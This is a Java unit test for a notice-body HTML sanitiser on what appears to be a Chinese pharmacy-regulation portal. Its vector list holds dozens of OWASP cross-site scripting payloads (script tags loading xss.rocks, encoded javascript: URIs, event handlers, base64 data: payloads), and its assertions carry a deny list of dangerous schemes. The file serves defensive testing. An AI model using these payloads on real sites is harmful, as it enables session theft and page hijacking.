package com.cogov.api.notice;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.cogov.contracts.error.ErrorCode;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The notice body's sanitiser against the vectors of the OWASP XSS filter evasion cheat sheet: whatever goes in, what
 * comes out holds only allowed tags and attributes, no script, no handler, no style and no link or image that leaves
 * the platform; a vector that leaves nothing readable is refused as NOTICE_BODY_EMPTY.
 */
class NoticeSanitiserTest {

    private static final Map<String, Set<String>> ALLOWED = Map.ofEntries(
            Map.entry("a", Set.of("href", "title", "rel")),
            Map.entry("img", Set.of("src", "alt", "width", "height")),
            Map.entry("ol", Set.of("start")),
            Map.entry("th", Set.of("colspan", "rowspan", "scope")),
            Map.entry("td", Set.of("colspan", "rowspan")),
            Map.entry("col", Set.of("span")),
            Map.entry("colgroup", Set.of("span")));
    private static final Set<String> TAGS = Set.of(
            "p",
            "br",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "blockquote",
            "pre",
            "ul",
            "ol",
            "li",
            "dl",
            "dt",
            "dd",
            "table",
            "caption",
            "thead",
            "tbody",
            "tfoot",
            "tr",
            "th",
            "td",
            "colgroup",
            "col",
            "strong",
            "b",
            "em",
            "i",
            "u",
            "s",
            "sub",
            "sup",
            "small",
            "code",
            "a",
            "img");

    /** From the OWASP XSS Filter Evasion Cheat Sheet, each with readable text around it where it keeps some. */
    static Stream<String> owaspVectors() {
        return Stream.of(
                "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
                "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
                "<IMG SRC=\"javascript:alert('XSS');\">",
                "<IMG SRC=javascript:alert('XSS')>",
                "<IMG SRC=JaVaScRiPt:alert('XSS')>",
                "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
                "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
                "<a onmouseover=alert(document.cookie)>xxs link</a>",
                "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
                "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
                "<IMG SRC=# onmouseover=\"alert('xxs')\">",
                "<IMG SRC= onmouseover=\"alert('xxs')\">",
                "<IMG onmouseover=\"alert('xxs')\">",
                "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
                "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
                "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
                "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
                "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
                "<IMG SRC=\"jav\tascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
                "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
                "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
                "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>通知正文",
                "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
                "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
                "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
                "<SCRIPT SRC=//xss.rocks/.j>",
                "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
                "<iframe src=http://xss.rocks/scriptlet.html <",
                "\\\";alert('XSS');//",
                "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
                "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
                "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
                "<IMG DYNSRC=\"javascript:alert('XSS')\">",
                "<IMG LOWSRC=\"javascript:alert('XSS')\">",
                "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
                "<svg/onload=alert('XSS')>",
                "<BODY ONLOAD=alert('XSS')>",
                "<BGSOUND SRC=\"javascript:alert('XSS');\">",
                "<BR SIZE=\"&{alert('XSS')}\">",
                "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
                "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
                "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
                "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
                "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
                "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
                "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
                "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD>表格</TD></TR></TABLE>",
                "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">表格</TD></TABLE>",
                "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">隐藏</DIV>",
                "<DIV STYLE=\"width: expression(alert('XSS'));\">隐藏</DIV>",
                "<p style=\"display:none\">看不见的文字</p><p>看得见的文字</p>",
                "<p hidden>隐藏文字</p>",
                "<BASE HREF=\"javascript:alert('XSS');//\">",
                "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
                "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
                "<A HREF=\"http://66.102.7.147/\">XSS</A>",
                "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
                "<a href=\"jav&#x09;ascript:alert(1)\">点击</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点击</a>",
                "<a href=\"vbscript:msgbox(1)\">点击</a>",
                "<img src=\"https://evil.example/tracker.png\">外部图片",
                "<img src=\"/portal/v1/public/notices/1/attachments/abcdefghijklmnop?x=1\">带参数的图片",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<form action=\"javascript:alert(1)\"><button>提交</button></form>",
                "<details open ontoggle=alert(1)>展开</details>",
                "<p onclick=\"alert(1)\">段落</p>");
    }

    @ParameterizedTest
    @MethodSource("owaspVectors")
    void anOwaspVectorComesOutHarmlessOrIsRefusedAsEmpty(String vector) {
        String clean;
        try {
            clean = NoticeSanitiser.clean(vector);
        } catch (NoticeRefusedException refused) {
            assertThat(refused.code()).isEqualTo(ErrorCode.NOTICE_BODY_EMPTY);
            return;
        }
        assertHarmless(clean);
        assertThat(NoticeSanitiser.clean(clean))
                .as("cleaning twice changes nothing")
                .isEqualTo(clean);
    }

    @Test
    void hasAtLeastThirtyVectors() {
        assertThat(owaspVectors().count()).isGreaterThanOrEqualTo(30);
    }

    @Test
    void aBodyOfOnlyScriptIsRefusedAsEmpty() {
        for (String onlyScript : new String[] {
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<style>body{display:none}</style>",
            "<p style=\"display:none\"></p><script>alert(2)</script>   "
        }) {
            NoticeRefusedException refused =
                    catchThrowableOfType(NoticeRefusedException.class, () -> NoticeSanitiser.clean(onlyScript));
            assertThat(refused).as(onlyScript).isNotNull();
            assertThat(refused.code()).isEqualTo(ErrorCode.NOTICE_BODY_EMPTY);
        }
    }

    @Test
    void keepsTheStructureOfARealNotice() {
        String body = "<h2>关于规范含麻黄碱类复方制剂销售的通知</h2><p>各药店：</p><ol><li>查验身份证</li><li>每次不超过2个最小包装</li></ol>"
                + "<table><thead><tr><th>类别</th><th>要求</th></tr></thead><tbody><tr><td>麻黄碱类</td><td>实名登记</td></tr>"
                + "</tbody></table><p>详见<a href=\"https://www.nmpa.gov.cn/\" target=\"_blank\">国家药监局</a>。</p>"
                + "<p><img src=\"/portal/v1/public/notices/12/attachments/AbCdEfGhIjKlMnOpQrStUvWxYz012345\" alt=\"流程图\"></p>";
        String clean = NoticeSanitiser.clean(body);
        assertThat(clean)
                .contains("<h2>关于规范含麻黄碱类复方制剂销售的通知</h2>")
                .contains("<ol><li>查验身份证</li>")
                .contains("<th>类别</th>")
                .contains("<a href=\"https://www.nmpa.gov.cn/\" rel=\"noopener\">国家药监局</a>")
                .contains("<img src=\"/portal/v1/public/notices/12/attachments/AbCdEfGhIjKlMnOpQrStUvWxYz012345\"")
                .doesNotContain("target");
    }

    @Test
    void aLinkKeepsOnlyNoopenerAsItsRel() {
        assertThat(NoticeSanitiser.clean("<a href=\"https://example.org\" rel=\"opener\">链接</a>"))
                .isEqualTo("<a href=\"https://example.org\" rel=\"noopener\">链接</a>");
    }

    private static void assertHarmless(String html) {
        // text may still read "javascript:" (it is text, escaped); markup may not carry it: checked element by element
        assertThat(html.toLowerCase(Locale.ROOT)).doesNotContain("<script", "<style", "<iframe", "<svg", "<object");
        for (Element e : Jsoup.parseBodyFragment(html).body().getAllElements()) {
            if (e.tagName().equals("body")) {
                continue;
            }
            assertThat(TAGS).as("tag in %s", html).contains(e.tagName());
            for (Attribute a : e.attributes()) {
                assertThat(ALLOWED.getOrDefault(e.tagName(), Set.of()))
                        .as("attribute %s of <%s> in %s", a.getKey(), e.tagName(), html)
                        .contains(a.getKey());
            }
            for (Attribute a : e.attributes()) {
                assertThat(a.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", ""))
                        .as(html)
                        .doesNotContain("javascript:", "vbscript:", "data:", "expression(");
            }
            if (e.tagName().equals("a") && e.hasAttr("href")) {
                assertThat(e.attr("href")).matches("(?i)(https?|mailto):.*");
                assertThat(e.attr("rel")).isEqualTo("noopener");
            }
            if (e.tagName().equals("img")) {
                assertThat(NoticeSanitiser.OWN_IMAGE.matcher(e.attr("src")).matches())
                        .as(html)
                        .isTrue();
            }
        }
    }
}
